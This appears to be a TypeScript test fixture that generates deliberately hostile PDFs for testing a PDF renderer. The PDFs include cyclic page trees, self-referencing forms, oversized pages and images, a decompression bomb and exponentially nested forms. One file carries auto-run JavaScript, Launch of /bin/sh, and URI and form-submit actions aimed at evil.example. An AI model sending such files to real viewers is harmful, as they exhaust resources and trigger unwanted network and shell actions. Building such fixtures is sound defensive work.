import { deflateSync } from 'node:zlib'

/** A PDF of these objects, numbered from 1; the first is its catalog. A part of `bytes` is the stream of its object. */
const pdfOf = (objects: readonly (string | { head: string; bytes: Buffer })[], trailer = ''): Buffer => {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const offsets: number[] = []
  let length = parts[0]?.length ?? 0
  const add = (part: Buffer) => {
    parts.push(part)
    length += part.length
  }
  objects.forEach((object, n) => {
    offsets.push(length)
    add(Buffer.from(`${n + 1} 0 obj\n`))
    if (typeof object === 'string') add(Buffer.from(object))
    else {
      add(Buffer.from(`<<${object.head}/Length ${object.bytes.length}>>\nstream\n`))
      add(object.bytes)
      add(Buffer.from('\nendstream'))
    }
    add(Buffer.from('\nendobj\n'))
  })
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  add(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<</Size ${size}/Root 1 0 R${trailer}>>\nstartxref\n${length}\n%%EOF`,
    ),
  )
  return Buffer.concat(parts)
}

const drawing = (operators: string) => ({ head: '', bytes: Buffer.from(operators) })
const square = drawing('0 0 0 rg 20 20 100 100 re f')
const page = (more: string): string => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]${more}>>`
const onePage = '<</Type/Pages/Kids[3 0 R]/Count 1>>'

/** A form that draws the one before it ten times, ten deep: a page without end in a few kilobytes. */
const nested = Array.from({ length: 12 }, (_, n) => ({
  head: `/Type/XObject/Subtype/Form/BBox[0 0 200 200]${n === 0 ? '' : `/Resources<</XObject<</F ${n + 4} 0 R>>>>`}`,
  bytes: Buffer.from((n === 0 ? '0 0 10 10 re f ' : '/F Do ').repeat(10)),
}))

/** PDFs as an attacker makes them: each name tells what it tries. */
export const hostilePdfs: { readonly [name: string]: Buffer } = {
  'cyclic pages.pdf': pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>',
  ]),
  'a form in itself.pdf': pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    onePage,
    page('/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>'),
    drawing('/F Do'),
    {
      head: '/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<</XObject<</F 5 0 R>>>>',
      bytes: Buffer.from('/F Do'),
    },
  ]),
  'a huge page.pdf': pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    onePage,
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 1000000000 1000000000]/Contents 4 0 R>>',
    square,
  ]),
  'a long page.pdf': pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    onePage,
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 1000000]/Contents 4 0 R>>',
    square,
  ]),
  'a thread of a page.pdf': pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    onePage,
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 1 1000000000]/Contents 4 0 R>>',
    square,
  ]),
  'a huge image.pdf': pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    onePage,
    page('/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>'),
    drawing('q 200 0 0 200 0 0 cm /I Do Q'),
    {
      head: '/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode',
      bytes: deflateSync(Buffer.alloc(1000)),
    },
  ]),
  'what runs and calls.pdf': pdfOf([
    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('owned'\\);app.launchURL\\('https://evil.example/js'\\))>>
      /AA<</WC<</S/URI/URI(https://evil.example/close)>>>>>>`,
    onePage,
    page(`/Contents 4 0 R/AA<</O<</S/URI/URI(https://evil.example/page)>>>>/Annots[
      <</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/Launch/F(/bin/sh)>>>>
      <</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(https://evil.example/link)>>>>
      <</Type/Annot/Subtype/Widget/FT/Btn/T(x)/Rect[0 0 200 200]/A<</S/SubmitForm/F(https://evil.example/form)>>>>]
      /Resources<</XObject<</I 5 0 R>>>>`),
    drawing('0 0 0 rg 20 20 100 100 re f q 50 0 0 50 0 0 cm /I Do Q'),
    {
      head: '/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(https://evil.example/image)>>',
      bytes: Buffer.from([0]),
    },
  ]),
  'a hundred thousand pages.pdf': pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Kids[${'3 0 R '.repeat(100_000)}]/Count 100000>>`,
    page('/Contents 4 0 R'),
    square,
  ]),
  'a page without end.pdf': pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    onePage,
    page(`/Contents 4 0 R/Resources<</XObject<</F ${nested.length + 4} 0 R>>>>`),
    drawing('/F Do'),
    ...nested,
  ]),
}
